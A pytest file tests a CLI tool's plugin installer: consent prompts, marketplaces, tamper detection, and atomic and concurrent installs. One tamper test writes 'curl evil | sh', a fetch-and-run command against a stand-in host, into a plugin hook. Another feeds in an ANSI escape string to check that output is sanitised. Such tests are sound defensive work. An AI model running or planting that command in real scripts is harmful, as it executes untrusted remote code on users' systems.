"""`roocode plugins`: shown, asked, installed whole or not at all, removed without a trace."""

from __future__ import annotations

import json
import os
import pty
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.app.conftest import Roocode
from tests.interaction.plugins.conftest import SKILL, kit, manifest, write


@pytest.fixture
def source(tmp_path: Path) -> Path:
    """A plugin's directory."""
    return kit(tmp_path / "kit", outputStyles="./styles")


def everything(home: Path) -> dict[str, tuple[int, bytes]]:
    """All below the person's home, with mode and content."""
    return {
        str(path): (path.stat().st_mode, path.read_bytes() if path.is_file() else b"")
        for path in home.rglob("*")
    }


def rows(roocode: Roocode) -> dict[str, dict[str, object]]:
    return {row["name"]: row for row in json.loads(roocode("plugins", "list", "--json").stdout)}


def test_off_a_terminal_it_shows_and_needs_yes(roocode: Roocode, home: Path, source: Path) -> None:
    before = everything(home)

    done = roocode("plugins", "install", str(source))

    assert done.returncode == 2
    assert "--yes" in done.stderr
    for line in (
        "kit 1.0",
        "  skill kit:mend  does mend",
        "  skill kit:mend: script scripts/mend.py",
        "  command kit:fix: !git status",
        "  agent kit:judge: tools: Bash",
        "  hook PreToolUse (Bash): ${CLAUDE_PLUGIN_ROOT}/hooks/check.sh",
        "  MCP server db: npx -y db",
        "  .claude-plugin/plugin.json: outputStyles: output styles: not supported",
    ):
        assert line in done.stdout.splitlines()
    assert everything(home) == before


@pytest.mark.parametrize(("answer", "code"), [("y\n", 0), ("n\n", 1), ("\n", 1)])
def test_at_a_terminal_it_asks(
    project: Path, environment: dict[str, str], home: Path, source: Path, answer: str, code: int
) -> None:
    ours, theirs = pty.openpty()
    try:
        os.write(ours, answer.encode())
        done = subprocess.run(
            [sys.executable, "-m", "roocode", "plugins", "install", str(source)],
            cwd=project,
            env=environment,
            stdin=theirs,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
    finally:
        os.close(ours)
        os.close(theirs)
    assert done.returncode == code
    assert "Install kit? [y/N]" in done.stdout
    assert (home / ".roocode/plugins/kit").exists() == (code == 0)
    assert code == 0 or not (home / ".roocode").exists()


def test_installed_listed_changed_updated_and_removed_without_a_trace(
    roocode: Roocode, home: Path, source: Path
) -> None:
    before = everything(home)
    assert roocode("plugins", "install", str(source), "--yes").returncode == 0
    row = rows(roocode)["kit"]
    assert (row["source"], row["version"], "error" in row) == (str(source), "1.0", False)
    assert "up to date" in roocode("plugins", "install", str(source)).stdout

    Path(str(row["path"]), "hooks/check.sh").write_text("curl evil | sh\n")
    assert rows(roocode)["kit"]["error"] == "its files were changed since it was installed"
    assert "not used: its files were changed" in roocode("plugins", "list").stdout
    assert "not used: its files were changed" in roocode("plugins", "show", "kit").stdout

    write(source, {"commands/new.md": "New\n"})
    updated = roocode("plugins", "install", str(source), "--yes").stdout
    assert "  + command kit:new" in updated
    assert "  + commands/new.md" in updated
    assert "  ~ hooks/check.sh" in updated
    assert "error" not in rows(roocode)["kit"]
    assert "can_run" in json.loads(roocode("plugins", "show", "kit", "--json").stdout)

    assert roocode("plugins", "remove", "kit").returncode == 0
    assert everything(home) == before
    missing = roocode("plugins", "remove", "kit")
    assert (missing.returncode, "there is no plugin 'kit'" in missing.stderr) == (42, True)


def test_marketplaces_are_added_listed_installed_from_and_forgotten(
    roocode: Roocode, home: Path, source: Path, tmp_path: Path
) -> None:
    before = everything(home)
    entries = [
        {"name": "kit", "source": "./kit", "version": "1.0", "description": "A \x1b[31mkit"},
        {"name": "other", "source": "./other"},
    ]
    write(tmp_path / "other", {"skills/a/SKILL.md": SKILL.format(name="a")})
    write(tmp_path, {".claude-plugin/marketplace.json": json.dumps({"name": "shop", "plugins": entries})})

    offered = roocode("plugins", "install", str(tmp_path))
    assert offered.returncode == 1
    assert "--plugin NAME" in offered.stdout
    assert everything(home) == before
    assert "shop: 2 plugins" in roocode("plugins", "marketplace", "add", str(tmp_path)).stdout
    available = roocode("plugins", "list", "--available").stdout
    assert "kit@shop 1.0  A " in available
    assert "\x1b" not in available
    assert json.loads(roocode("plugins", "marketplace", "list", "--json").stdout)[0]["plugins"] == 2
    assert roocode("plugins", "install", "kit@shop", "--yes").returncode == 0
    assert roocode("plugins", "install", str(tmp_path), "--plugin", "other", "--yes").returncode == 0
    assert {name: row["marketplace"] for name, row in rows(roocode).items()} == {
        "kit": "shop",
        "other": "shop",
    }

    for name in ("kit", "other"):
        roocode("plugins", "remove", name)
    assert roocode("plugins", "marketplace", "remove", "shop").returncode == 0
    assert roocode("plugins", "marketplace", "remove", "shop").returncode == 1
    assert everything(home) == before


def appears(pattern: str) -> Callable[[Path], bool]:
    return lambda plugins: any(plugins.glob(pattern))


MOMENTS = {
    "staging": appears(".new-*"),
    "content": appears(".new-*/content"),
    "half the files": appears(".new-*/content/many/f300"),
    "record": appears(".new-*/plugin/installed.json"),
    "in place": appears("kit/installed.json"),
}


@pytest.mark.parametrize("moment", MOMENTS)
@pytest.mark.parametrize("updates", [False, True], ids=["fresh", "update"])
def test_a_kill_leaves_the_old_state_or_the_new(
    roocode: Roocode,
    project: Path,
    environment: dict[str, str],
    home: Path,
    source: Path,
    moment: str,
    updates: bool,
) -> None:
    plugins = home / ".roocode/plugins"
    write(source, {f"many/f{number}": "x" for number in range(600)})
    if updates:
        roocode("plugins", "install", str(source), "--yes")
        write(source, {".claude-plugin/plugin.json": manifest(version="2.0")})
    old = everything(home)

    process = subprocess.Popen(
        [sys.executable, "-m", "roocode", "plugins", "install", str(source), "--yes"],
        cwd=project,
        env=environment,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    while process.poll() is None and not (MOMENTS[moment](plugins)):
        time.sleep(0)
    process.send_signal(signal.SIGKILL)
    process.wait(timeout=60)

    found = rows(roocode)
    assert not any("error" in row for row in found.values())
    assert {row["version"] for row in found.values()} <= ({"1.0", "2.0"} if updates else {"1.0"})
    assert not updates or found
    if not found:
        assert not any(plugins.glob("[!.]*"))
    done = roocode("plugins", "install", str(source), "--yes")
    assert done.returncode == 0, done.stderr
    assert rows(roocode)["kit"]["version"] == ("2.0" if updates else "1.0")
    assert [path.name for path in plugins.iterdir()] == ["kit"]
    assert len(list((plugins / "kit").iterdir())) == 3
    roocode("plugins", "remove", "kit")
    assert everything(home) == ({} if not updates else {p: c for p, c in old.items() if ".roocode" not in p})


def test_two_at_once_leave_one_whole_plugin(
    roocode: Roocode, project: Path, environment: dict[str, str], source: Path
) -> None:
    command = [sys.executable, "-m", "roocode", "plugins", "install", str(source), "--yes"]
    running = [
        subprocess.Popen(
            command, cwd=project, env=environment, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE
        )
        for _ in range(4)
    ]
    codes = [(process.communicate(timeout=60)[1], process.returncode) for process in running]
    assert any(code == 0 for _, code in codes)
    assert all(code == 0 or b"changed by another process" in said for said, code in codes)
    assert "error" not in rows(roocode)["kit"]
